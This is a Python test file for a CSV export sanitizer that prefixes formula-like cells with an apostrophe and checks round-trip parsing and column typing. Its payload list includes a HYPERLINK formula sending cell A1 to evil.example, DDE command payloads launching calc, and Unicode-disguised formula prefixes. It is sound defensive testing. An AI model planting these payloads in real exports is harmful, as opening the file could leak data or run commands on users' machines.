"""Cells of CSV files: none begins a formula, and what was in them can be read again."""

import csv
from decimal import Decimal
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cauce.activate.fields import ColumnType, fit
from cauce.activate.harmless import csv_cell, harmless

RUN = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1)',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u3000＝1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "＝1+1",
    "＋1",
    "－1-1",
    "＠SUM(A1)",
    "\x00=1",
    "--5",
    "-",
    "+34 600 000 000",
]
LEFT_ALONE = [
    "",
    "-5",
    "+5",
    "-5.25",
    "-5,25",
    "1e-9",
    "+34600000000",
    "Ann",
    "a=b",
    "ann@example.org",
    "5-3",
]


@pytest.mark.parametrize("text", RUN)
def test_what_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize("text", LEFT_ALONE)
def test_numbers_and_ordinary_text_are_left_alone(text):
    assert harmless(text) == text


@given(st.lists(st.text(), min_size=1, max_size=4))
def test_a_line_is_read_again_as_it_was_but_for_the_apostrophe(texts):
    line = ",".join(csv_cell(text, ColumnType.TEXT) for text in texts)
    [cells] = csv.reader(StringIO(f"{line}\r\n", newline=""), strict=True) if line else [[""]]
    assert cells == [harmless(text) for text in texts]
    for cell in cells:
        assert cell[:1] not in ("=", "@", "\t", "\r") and cell.lstrip()[:1] not in ("=", "@", "＝", "＠")


@pytest.mark.parametrize(
    ("value", "type_", "cell"),
    [
        (None, ColumnType.TEXT, ""),
        (True, ColumnType.ANY, "true"),
        (-5, ColumnType.ANY, "-5"),
        (Decimal("-0.10"), ColumnType.ANY, "-0.10"),
        (["=a", "b"], ColumnType.ANY, '"[""=a"",""b""]"'),
        ("ID", ColumnType.TEXT, '"ID"'),
        ("a;b", ColumnType.TEXT, '"a;b"'),
        ("5", ColumnType.NUMBER, ""),
        (5, ColumnType.NUMBER, "5"),
        ("2026-03-01", ColumnType.TIME, "2026-03-01T00:00:00.000Z"),
        ("tomorrow", ColumnType.TIME, ""),
        ("yes", ColumnType.BOOLEAN, ""),
    ],
)
def test_cells(value, type_, cell):
    assert csv_cell(value, type_) == cell


def test_nothing_is_converted_silently():
    assert fit("5", ColumnType.NUMBER) is None and fit(1, ColumnType.BOOLEAN) is None
    assert fit(True, ColumnType.NUMBER) is None and fit(5, ColumnType.TEXT) == "5"
    assert fit(10**40, ColumnType.NUMBER) is None
